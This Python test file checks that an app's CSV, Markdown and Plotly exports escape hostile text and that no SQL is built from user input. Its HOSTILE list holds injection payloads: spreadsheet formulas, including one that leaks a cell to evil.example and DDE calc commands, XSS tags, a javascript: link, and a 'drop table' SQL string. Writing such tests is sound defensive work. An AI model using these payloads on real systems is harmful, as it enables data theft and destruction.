"""Text from the data is shown as text and escaped in every export (``app.escape``): CSV cells never
start a formula, Markdown renders the literal text, control characters are visible; and the code
builds no SQL from user text (every ``execute``/``sql`` call's query is a constant, a query file, or
one of the audited identifiers listed below)."""

from __future__ import annotations

import ast
import csv
import io
import json
import re
from pathlib import Path

import pytest

from app import escape
from app.cli import main
from app.economics.decide import scenarios_text
from tests.support import small_export

APP = Path(__file__).resolve().parents[1] / "app"

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTAB=1+1",
    "<img src=x onerror=alert(1)>",
    "<script>alert('x')</script>",
    "**bold** | cell | [link](javascript:alert(1)) ![i](http://evil.example/t.png)",
    "x'; drop table datasets; --",
    ":red[red] $x^2$ :material/home: `code`",
    "line\nbreak",
    "esc\x1b[31mred\x07bell\u202eevil",
]


# -- the rules ----------------------------------------------------------------------------------------
@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_would_start_a_formula_is_prefixed_with_a_quote(prefix: str) -> None:
    cell = escape.csv_cell(prefix + "SUM(A1:A9)")
    assert cell.startswith("'")
    assert "\t" not in cell and "\r" not in cell  # and the tab / CR is visible, not raw


def test_numbers_and_plain_text_stay_as_they_are() -> None:
    assert [escape.csv_cell(v) for v in ("-1.5", "+Inf", "1e-3", "llama-3.1-8b", 0.25, None, True)] == [
        "-1.5", "+Inf", "1e-3", "llama-3.1-8b", 0.25, None, True]
    assert escape.csv_row({"a": None, "b": "=1+1", "c": 3}) == {"a": "", "b": "'=1+1", "c": 3}


def test_control_and_invisible_characters_are_made_visible() -> None:
    assert escape.visible("a\nb\r\tc\x00\x1b[31m\x7f\x85\u202e\u200bz") == \
        "a\\nb\\r\\tc\\x00\\x1b[31m\\x7f\\x85\\u202e\\u200bz"
    assert escape.visible("naïve – ü") == "naïve – ü"  # letters and punctuation of any script stay


MARKUP = re.compile(r"(?<!\\)[*_`\[\]<>|$:&]")  # an unescaped character that starts markup


@pytest.mark.parametrize("text", HOSTILE)
def test_markdown_renders_the_literal_text(text: str) -> None:
    out = escape.md(text)
    assert not MARKUP.search(out.replace("\\\\", "")), out
    assert "\n" not in out and "\x1b" not in out
    # unescaping the backslashes gives back the visible text: nothing lost, nothing added
    assert re.sub(r"\\(.)", r"\1", out) == escape.visible(text)


def test_markdown_line_starts_that_make_lists_or_rules_are_escaped() -> None:
    assert [escape.md(t) for t in ("- x", "12. x", "---", "=", "plain-name 1. x")] == [
        "\\- x", "12\\. x", "\\---", "\\=", "plain-name 1. x"]


def test_plotly_text_is_neither_markup_nor_a_template() -> None:
    assert escape.plotly_text("<b>%{x}</b> & co") == "&lt;b&gt;&#37;{x}&lt;/b&gt; &amp; co"


# -- the exports ----------------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def hostile_export(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return small_export.write(tmp_path_factory.mktemp("hostile") / "hostile.prom", HOSTILE, seed=11, scrapes=9)


def _run(capsys: pytest.CaptureFixture[str], *argv: str) -> str:
    code = main(list(argv))
    out, err = capsys.readouterr()
    assert code == 0, err
    return out


def _check_csv(text: str, column: str) -> list[str]:
    rows = list(csv.DictReader(io.StringIO(text)))
    cells = sorted({r[column] for r in rows})
    for cell in cells:
        assert not cell.startswith(escape.FORMULA_PREFIXES), cell
        assert not any(ord(ch) < 32 for ch in cell), repr(cell)
    return cells


def test_paths_from_label_values_are_escaped_in_every_cli_export(hostile_export: Path,
                                                                capsys: pytest.CaptureFixture[str]) -> None:
    paths = {p["path"] for p in json.loads(_run(capsys, "report", str(hostile_export), "--promise", "0.5/0.05",
                                                "--format", "json"))["paths"]}
    assert paths == set(HOSTILE)  # JSON keeps the values exactly (a JSON consumer escapes for itself)
    cube = _check_csv(_run(capsys, "cube", str(hostile_export), "--format", "csv"), "path")
    assert set(cube) == {escape.csv_cell(p) for p in HOSTILE}
    assert "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")" in cube
    report = _check_csv(_run(capsys, "report", str(hostile_export), "--promise", "0.5/0.05", "--format", "csv"),
                        "path")
    assert set(report) == set(cube)
    markdown = _run(capsys, "report", str(hostile_export), "--promise", "0.5/0.05", "--format", "markdown")
    rows = [ln for ln in markdown.splitlines() if ln.startswith("| ") and "---" not in ln][1:]
    assert len(rows) == len(HOSTILE)
    for row in rows:  # exactly the table's 9 cells: no `|` of a path broke out of its cell
        assert len(re.split(r"(?<!\\)\|", row)) == 11, row
        assert not re.search(r"(?<!\\)<", row), row
    assert {re.split(r"(?<!\\)\|", r)[1].strip() for r in rows} == {escape.md(p) for p in HOSTILE}


def _scenarios_doc(path: str) -> dict:
    row = {"replicas": 2, "traffic": 1.0, "context": 1.0, "path": path, "breach_share": 0.01,
           "breach_share_low": 0.0, "breach_share_high": 0.02, "ttft_share": 0.01, "tpot_share": 0.0,
           "extrapolated": False, "flagged": False, "requests": 100.0, "expected_breaches": 1.0, "breach_cost": 1.0,
           "headroom_cost": 2.0, "total_cost": 3.0, "cost_per_kept_request": 0.02}
    return {"prices": {"horizon_hours": 10.0, "replica_hour": 1.0, "breach": {path: 0.5}}, "observed_replicas": 2,
            "observed": {"hours": 1.0, "ttft_share": {}, "tpot_share": {}}, "fleet": [], "scenarios": [row],
            "cheapest_by_traffic_context": [], "break_even_breach_price": {path: None},
            "capacity_model": {"sources": {}, "fit": {"data": "x", "r2": None}, "saturation_observed": False,
                               "calibration": {}, "model_error_at_observed_replicas": {path: {}}},
            "flags": [{"path": path, "message": "a flag"}], "cross_check": {}, "queueing": None}


@pytest.mark.parametrize("path", HOSTILE)
def test_scenarios_csv_and_markdown_escape_the_path(path: str) -> None:
    doc = _scenarios_doc(path)
    (cell,) = _check_csv(scenarios_text.scenarios_csv(doc), "path")
    assert cell == escape.csv_cell(path)
    markdown = scenarios_text.scenarios_markdown(doc)
    assert path not in markdown or escape.md(path) == path
    assert markdown.count(escape.md(path)) >= 4  # prices line, table, break-even, residual, flag
    for line in markdown.splitlines():
        assert not re.search(r"(?<!\\)<(?!-)", line), line


# -- no SQL from user text ---------------------------------------------------------------------------
# (file, function): why the query text there is not a constant. Each builds an identifier from a fixed
# tuple of the code's own names, or reads a query file of queries/; none takes text from a user.
AUDITED = {
    ("app/live/client.py", "raw_answers"): "PromQL, not SQL, sent to the user's own store: the known metric names "
    "(regex-escaped) and the user's --match selector, checked to be one {...} selector; the store has no "
    "parameter binding, and the query runs with the user's credential, not Headroom's",
    ("app/bench/victoria.py", "import_parquet"): "COPY ... TO takes no bound target: the benchmark's own "
    "temporary file path (its quotes doubled), never user text",
    ("app/store.py", "_init_schema"): "statements of queries/schema/workspace.sql, a file of the project",
    ("app/store.py", "drop_cubes_for"): "table names from the fixed tuple CUBE_TABLES",
    ("app/store.py", "_read"): "runs the constant queries of Workspace's own methods (values as $params)",
    ("app/cube.py", "store_rows"): "a relation name of the cube build and the constant _STORE_ORDER",
    ("app/cube.py", "index_for_promises"): "table names from the fixed tuple CUBE_TABLES",
    ("app/ingest/base.py", "number_rows"): "table, view and column names of the readers' own staging tables",
    ("app/ingest/base.py", "empty_tables"): "the readers' own staging table names",
    ("app/ingest/longform.py", "read_csv"): "one of two constant read_csv(...) calls; the path and delimiter "
                                            "are $params",
    ("app/ingest/longform.py", "read_parquet"): "the constant read_parquet($path)",
    ("app/ingest/longform.py", "_release"): "the reader's own view and table names, from a fixed tuple",
    ("app/ingest/base.py", "drop_temp"): "a staging object's name from the readers' code, and TABLE or VIEW "
                                         "as the catalog says",
    ("app/ingest/longform.py", "_stage"): "expressions of our own; the file's column names are $params "
                                          "(long_row[$ts_col])",
    ("app/bench/generate.py", "write_exposition"): "the benchmark's own scratch file name (COPY takes no "
                                               "parameters), quotes doubled",
}
QUERY_METHODS = {"execute", "executemany", "sql", "query"}


def _dynamic_queries() -> list[tuple[str, str, int, str]]:
    """(file, enclosing function, line, source) of every query call whose query is not a plain constant
    string, a name bound to one, or a query of ``app.sql`` (loaded by name from queries/)."""
    found = []
    for path in sorted(APP.rglob("*.py")):
        rel = str(path.relative_to(APP.parent))
        tree = ast.parse(path.read_text())
        constants = {t.id for n in ast.walk(tree) if isinstance(n, ast.Assign) and isinstance(n.value, ast.Constant)
                     for t in n.targets if isinstance(t, ast.Name)}
        for func in [n for n in ast.walk(tree) if isinstance(n, ast.FunctionDef | ast.AsyncFunctionDef)] + [tree]:
            for node in ast.walk(func):
                if not (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)
                        and node.func.attr in QUERY_METHODS and node.args):
                    continue
                if isinstance(node.func.value, ast.Name) and node.func.value.id == "sql":
                    continue  # app.sql runs a query file by its name: sql.execute(con, "cube__build", ...)
                query = node.args[0]
                if isinstance(query, ast.Constant) or (isinstance(query, ast.Name) and query.id in constants):
                    continue
                name = getattr(func, "name", "<module>")
                found.append((rel, name, node.lineno, ast.unparse(query)))
    # a call inside a function is also inside the module: keep the innermost
    innermost: dict[tuple[str, int], tuple[str, str, int, str]] = {}
    for item in found:
        key = (item[0], item[2])
        if key not in innermost or innermost[key][1] == "<module>":
            innermost[key] = item
    return sorted(innermost.values())


def test_no_query_is_built_from_user_text() -> None:
    dynamic = _dynamic_queries()
    unexplained = [d for d in dynamic if (d[0], d[1]) not in AUDITED and not _through_sql_module(d)]
    assert not unexplained, "queries built from non-constant text (bind values as $params, or audit here):\n" + \
        "\n".join(f"{f}:{line} in {fn}: {src}" for f, fn, line, src in unexplained)
    assert {(f, fn) for f, fn, *_ in dynamic} >= set(AUDITED)  # the audit list holds nothing stale


def _through_sql_module(item: tuple[str, str, int, str]) -> bool:
    """``app/sql.py`` runs the text of a named query file (``sql.text(name)``): the one place queries are
    run from files, their names checked against queries/."""
    return item[0] == "app/sql.py"
